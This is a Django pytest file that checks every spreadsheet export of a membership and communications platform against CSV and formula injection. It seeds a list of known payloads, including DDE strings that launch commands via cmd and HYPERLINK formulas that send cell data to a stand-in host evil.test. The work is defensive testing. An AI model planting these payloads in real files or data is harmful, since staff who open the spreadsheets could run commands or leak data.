"""Every spreadsheet export of the project, in both formats, against formula injection.

Anyone can put text in the register (newsletter sign-up, /join/, public surveys, the press
room's download form, imports, profiles), and staff open the exports in Excel or
LibreOffice. Each export is fetched with a corpus of known payloads seeded into the data it
lists; no cell, once opened, may start with a formula trigger, and no XLSX cell may hold a
formula. Two more tests keep the list honest: a view that exports must be in EXPORTS, and
no code but `core.exports` may write CSV or XLSX.
"""

import csv
import inspect
import io
import re
import unicodedata
from datetime import timedelta
from itertools import dropwhile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.base import ContentFile
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from collaboration.models import Call, Introduction, Opportunity, Post, Project
from communications.models import (
    DownloadRequest,
    MediaCoverage,
    NewsArticle,
    Newsletter,
    PressAsset,
    Subscriber,
)
from communications.models.plan import Action, Objective
from community.models import (
    AwardApplication,
    DiscussionMessage,
    MessageReport,
    SuccessStory,
    Testimonial,
    Thread,
)
from community.tests.awards_helpers import category_of, edition_make
from events.tests.factories import EventFactory, RegistrationFactory
from members.models import ImportJob, Membership, WorkingGroup
from members.selectors import memberships
from members.tests.factories import AffiliationFactory, ContactFactory, OrganizationFactory
from reports.models import Report
from reports.periods import Period
from reports.selectors.snapshot import snapshot_take
from surveys.models import Answer, Question, Response, Survey

# Known formula-injection payloads (OWASP "CSV injection", DDE forms, and the characters
# that hide a trigger from a naive check). Each ends with a tag, to prove it was exported.
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "=1+1",
    "+33 5 61 00 00 00",
    "-2+3",
    "@SUM(1+9)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    'DDE ("cmd";"/C calc";"!A0")A0',
    '\x01=HYPERLINK("http://evil.test")',
    "\x1b\x02+1+1",
    "\x7f=1+1",
    "\x85=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n-1+1",
    "\t\x01=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "\u22121+1",
    '\x01\u3000＝HYPERLINK("http://evil.test")',
]
TAGGED = [f"{payload} #P{number:02d}" for number, payload in enumerate(PAYLOADS)]
TAGS = [f"#P{number:02d}" for number in range(len(PAYLOADS))]


def _opens_as_formula(text: str) -> bool:
    """What a spreadsheet may run: a trigger as the first thing a person would see, or a
    leading tab or carriage return (independent of the code under test on purpose)."""
    if not isinstance(text, str):
        return False
    if text[:1] in ("\t", "\r"):
        return True
    visible = "".join(
        dropwhile(lambda c: c.isspace() or unicodedata.category(c) in ("Cc", "Cf"), text)
    )
    first = visible[:1]
    return bool(first) and (first == "\u2212" or unicodedata.normalize("NFKC", first) in "=+-@")


def test_the_check_itself_sees_every_payload_as_dangerous():
    assert all(_opens_as_formula(payload) for payload in PAYLOADS if not payload.startswith("DDE"))


def _csv_cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _xlsx_cells(content: bytes) -> list[list]:
    """The rows of every sheet (a report's workbook has one per section)."""
    rows = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value!r}"
            rows.append([cell.value for cell in row])
    return rows


def _assert_safe(rows, *, expect_tags: bool, where: str):
    cells = [cell for row in rows for cell in row if cell is not None]
    dangerous = [cell for cell in cells if _opens_as_formula(cell)]
    assert not dangerous, f"{where}: cells that open as formulas: {dangerous}"
    if expect_tags:
        text = "\n".join(str(cell) for cell in cells)
        missing = [tag for tag in TAGS if tag not in text]
        assert not missing, f"{where}: payloads not exported, the seed misses them: {missing}"


# name → (how the format is asked, URL kwargs key, formats). Every export of the project.
QUERY = "export"
EXPORTS = {
    "members:staff_organizations": (QUERY, None, ("csv", "xlsx")),
    "members:staff_contacts": (QUERY, None, ("csv", "xlsx")),
    "members:staff_dues": (QUERY, None, ("csv", "xlsx")),
    "communications:staff_newsletters": (QUERY, None, ("csv", "xlsx")),
    "communications:staff_newsletter_subscribers": (QUERY, None, ("csv", "xlsx")),
    "communications:staff_press_requests": (QUERY, None, ("csv", "xlsx")),
    "communications:staff_coverage": (QUERY, None, ("csv", "xlsx")),
    "communications:staff_plan": (QUERY, None, ("csv", "xlsx")),
    "events:staff_events": (QUERY, None, ("csv", "xlsx")),
    "events:staff_event_attendees_export": ("format", "event", ("csv", "xlsx")),
    "surveys:staff_survey_export": ("format", "survey", ("csv", "xlsx")),
    # The empty file to fill in for an import: its header only, and CSV only.
    "members:staff_import_template": (None, "import_kind", ("csv",)),
    "reports:staff_reports": (QUERY, None, ("csv", "xlsx")),
    # A report's figures, one sheet per section: the late payers' names among them.
    "reports:staff_report_xlsx": (None, "report", ("xlsx",)),
    "collaboration:staff_projects": (QUERY, None, ("csv", "xlsx")),
    "collaboration:staff_posts": (QUERY, None, ("csv", "xlsx")),
    "collaboration:staff_introductions": (QUERY, None, ("csv", "xlsx")),
    "collaboration:staff_opportunities": (QUERY, None, ("csv", "xlsx")),
    "community:staff_discussion_reports": (QUERY, None, ("csv", "xlsx")),
    "community:staff_testimonials": (QUERY, None, ("csv", "xlsx")),
    "community:staff_stories": (QUERY, None, ("csv", "xlsx")),
    "communications:staff_member_news": (QUERY, None, ("csv", "xlsx")),
    "community:staff_award_applications": (QUERY, "award_edition", ("csv", "xlsx")),
    # The API's audit log: token names and what endpoints wrote come from people and tools.
    "api_tokens:staff_audit": (QUERY, None, ("csv", "xlsx")),
}
# Views whose code speaks of exports but that write no spreadsheet.
NOT_SPREADSHEETS = {
    # A person's own data, as JSON (GDPR portability).
    "portal:space_my_data_export",
    # The register of processing activities says how each kind of record is exported; it
    # writes no file.
    "portal:staff_privacy_register",
}


@pytest.fixture
def seeded(personas, settings, tmp_path):
    """Every export's data, with one payload per row in each text column it shows."""
    today = timezone.localdate()
    start, end = memberships.membership_period_containing(day=today)
    asset = PressAsset(kind=PressAsset.Kind.values[0], title_fr=TAGGED[0], slug="plaquette")
    asset.file.save("plaquette.pdf", ContentFile(b"%PDF-1.4 test"), save=True)
    event = EventFactory(title_fr=TAGGED[0], venue=TAGGED[1])
    survey = Survey.objects.create(
        title_fr="Satisfaction", slug="satisfaction", status=Survey.Status.OPEN
    )
    question = Question.objects.create(
        survey=survey, position=1, kind=Question.Kind.LONG_TEXT, text_fr=TAGGED[2]
    )
    call = Call.objects.create(slug="appel", title_fr="Appel", deadline=timezone.now())
    hub = OrganizationFactory(name="Pôle", lifecycle="member")
    award_edition = edition_make()
    objective = Objective.objects.create(
        title_fr=TAGGED[0], scope=Objective.Scope.values[0], horizon=Objective.Horizon.values[0]
    )
    for number, payload in enumerate(TAGGED):
        organization = OrganizationFactory(name=payload, city=payload, website=payload)
        contact = ContactFactory(first_name=payload, last_name=payload, job_title=payload)
        AffiliationFactory(contact=contact, organization=organization)
        Membership.objects.create(
            organization=organization,
            period_start=start,
            period_end=end,
            status=Membership.Status.ACTIVE,
            dues_amount=100 + number,
            # Invoiced long ago and unpaid: a late payer in the report's figures.
            invoiced_on=start - timedelta(days=60),
            invoice_number=f"F-{number}",
        )
        Newsletter.objects.create(subject_fr=payload, body_fr="Texte", slug=f"lettre-{number}")
        subscriber = Subscriber.objects.create(
            email=f"lecteur{number}@example.org",
            first_name=payload,
            last_name=payload,
            organization_name=payload,
            status=Subscriber.Status.CONFIRMED,
            source=Subscriber.Source.GATED_DOWNLOAD,
        )
        DownloadRequest.objects.create(subscriber=subscriber, asset=asset)
        MediaCoverage.objects.create(
            published_on=today, outlet=payload, title=payload, notes=payload
        )
        Action.objects.create(objective=objective, title=payload, channel=Action.Channel.values[0])
        EventFactory(title_fr=payload, venue=payload)
        RegistrationFactory(event=event, contact=contact, first_name=payload, last_name=payload)
        response = Response.objects.create(
            survey=survey, organization=organization, contact=contact
        )
        Answer.objects.create(response=response, question=question, value_text=payload)
        # Collaboration: a project, a need, an introduction asked to the hub and an offer of
        # the organization, each titled with the payload.
        Project.objects.create(
            call=call, slug=f"projet-{number}", title=payload, summary="…", lead=organization
        )
        Post.objects.create(
            organization=organization,
            kind="need",
            title=payload,
            description="…",
            expires_on=today + timedelta(days=30),
        )
        Introduction.objects.create(requester=organization, target=hub, message=payload)
        AwardApplication.objects.create(
            edition=award_edition,
            category=category_of(award_edition),
            organization=organization,
            submitted_by=contact,
            presentation="…",
            public_summary=payload,
        )
        Opportunity.objects.create(
            kind="internship",
            slug=f"stage-{number}",
            title=payload,
            description="…",
            organization=organization,
            apply_url="https://example.org/",
            expires_on=today + timedelta(days=30),
        )
        # Testimonials and success stories: what a person said, and a story, in the payload.
        Testimonial.objects.create(
            quote_fr=payload, person_name=payload, role=payload, company_name=payload
        )
        SuccessStory.objects.create(
            kind="award", slug=f"histoire-{number}", title_fr=payload, body_fr="…"
        ).organizations.set([organization])
        NewsArticle.objects.create(
            slug=f"actualite-{number}",
            title_fr=payload,
            body_fr="…",
            organization=organization,
            kind=NewsArticle.Kind.OTHER,
            moderation=NewsArticle.Moderation.REJECTED,
            moderation_note=payload,
        )
        # A working group named after the payload: its synthesis's title carries it.
        group = WorkingGroup.objects.create(name_fr=payload, slug=f"groupe-{number}")
        # A reported message of its discussions, whose title, text and reason carry it.
        thread = Thread.objects.create(group=group, title=payload)
        message = DiscussionMessage.objects.create(thread=thread, body=payload)
        MessageReport.objects.create(message=message, reason=payload)
        Report.objects.create(
            kind=Report.Kind.SYNTHESIS,
            working_group=group,
            period_start=Period.containing("quarter", today).start,
            period_end=Period.containing("quarter", today).end,
        )
    quarter = Period.containing("quarter", today)
    report = Report.objects.create(
        kind="quarter", period_start=quarter.start, period_end=quarter.end
    )
    report.snapshot = snapshot_take(period=quarter)
    report.save()
    _api_audit_rows(personas)
    return {
        "report": {"pk": report.pk},
        "event": {"pk": event.pk},
        "survey": {"pk": survey.pk},
        "award_edition": {"pk": award_edition.pk},
        "import_kind": [{"kind": kind} for kind in ImportJob.Kind.values],
    }


def _export_cases():
    for name, (parameter, kwargs_key, formats) in sorted(EXPORTS.items()):
        for export_format in formats:
            yield pytest.param(
                name, parameter, kwargs_key, export_format, id=f"{name}-{export_format}"
            )


@pytest.mark.parametrize(
    ("name", "parameter", "kwargs_key", "export_format"), list(_export_cases())
)
def test_no_export_cell_opens_as_a_formula(
    client_for, seeded, name, parameter, kwargs_key, export_format
):
    client = client_for("staff")
    all_kwargs = seeded[kwargs_key] if kwargs_key else [None]
    for kwargs in all_kwargs if isinstance(all_kwargs, list) else [all_kwargs]:
        with translation.override("fr"):
            url = reverse(name, kwargs=kwargs)
        response = client.get(url, {parameter: export_format} if parameter else {})
        assert response.status_code == 200, (name, response.status_code)
        content = b"".join(response) if response.streaming else response.content
        if export_format == "xlsx":
            assert response["Content-Type"].startswith("application/vnd.openxmlformats")
            rows = _xlsx_cells(content)
        else:
            assert response["Content-Type"].startswith("text/csv")
            rows = _csv_cells(content)
        assert rows, f"{name}: an empty file"
        _assert_safe(rows, expect_tags=kwargs_key != "import_kind", where=f"{url} {export_format}")


@pytest.mark.parametrize("action", ["export_csv", "export_xlsx"])
def test_the_bulk_export_of_ticked_organizations_is_neutralised(client_for, seeded, action):
    from members.models import Organization

    ticked = Organization.objects.filter(name__in=TAGGED).values_list("pk", flat=True)
    response = client_for("staff").post(
        reverse("members:staff_organizations"),
        {"action": action, "organizations": [str(pk) for pk in ticked]},
    )
    assert response.status_code == 200
    rows = (
        _xlsx_cells(response.content) if action == "export_xlsx" else _csv_cells(response.content)
    )
    _assert_safe(rows, expect_tags=True, where=action)


def _api_audit_rows(personas):
    """A token named after each payload, and a write of it whose change is the payload."""
    from api.models import ApiAuditEntry, ApiToken
    from api.tests.helpers import staff_token

    for payload in TAGGED:
        staff_token(personas.staff, "events:write", name=payload[:100])
        ApiAuditEntry.objects.create(
            token=ApiToken.objects.get(name=payload[:100]),
            method="POST",
            path=f"/api/v1/{payload}"[:500],
            object_id=payload[:100],
            change=payload,
            status=201,
        )


# Keeping the list complete.


def _project_views(patterns=None, namespace=None):
    from tests.test_urls_personas import PROJECT_NAMESPACES

    for entry in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(entry, URLResolver):
            yield from _project_views(entry.url_patterns, entry.namespace or namespace)
        elif isinstance(entry, URLPattern) and entry.name and namespace in PROJECT_NAMESPACES:
            yield f"{namespace}:{entry.name}", entry.callback


def _speaks_of_exports(view) -> bool:
    source = inspect.getsource(inspect.unwrap(view))
    return bool(re.search(r"export|csv|xlsx|spreadsheet", source, re.IGNORECASE))


def test_every_view_that_exports_is_walked():
    exporting = {
        name for name, view in _project_views() if "export" in name or _speaks_of_exports(view)
    }
    missing = exporting - EXPORTS.keys() - NOT_SPREADSHEETS
    assert not missing, f"exports not checked against formula injection: {sorted(missing)}"
    assert EXPORTS.keys() <= exporting, "EXPORTS names a view that does not export"


# Writers of CSV or XLSX files. Reading (csv.reader, load_workbook) is fine anywhere.
WRITERS = re.compile(
    r"csv\.(writer|DictWriter)\b|\bWorkbook\s*\(|WriteOnlyCell|xlsxwriter|\.to_csv\(|\.to_excel\("
    r"|text/csv|spreadsheetml"
)
THE_HELPER = Path(settings.BASE_DIR) / "core" / "exports.py"


def test_no_code_but_the_export_helper_writes_a_spreadsheet():
    offenders = []
    for path in Path(settings.BASE_DIR).rglob("*.py"):
        relative = path.relative_to(settings.BASE_DIR)
        if relative.parts[0].startswith(".") or "tests" in relative.parts:
            continue
        if path == THE_HELPER or "site-packages" in relative.parts:
            continue
        for number, line in enumerate(path.read_text().splitlines(), start=1):
            if WRITERS.search(line):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert not offenders, "write spreadsheets through core.exports:\n" + "\n".join(offenders)


def test_the_helpers_check_sees_the_writers_it_looks_for():
    # The guard above is only as good as its pattern.
    for line in ("writer = csv.writer(buffer)", "Workbook(write_only=True)", 'ct = "text/csv"'):
        assert WRITERS.search(line)
    assert not WRITERS.search("rows = csv.reader(handle)")
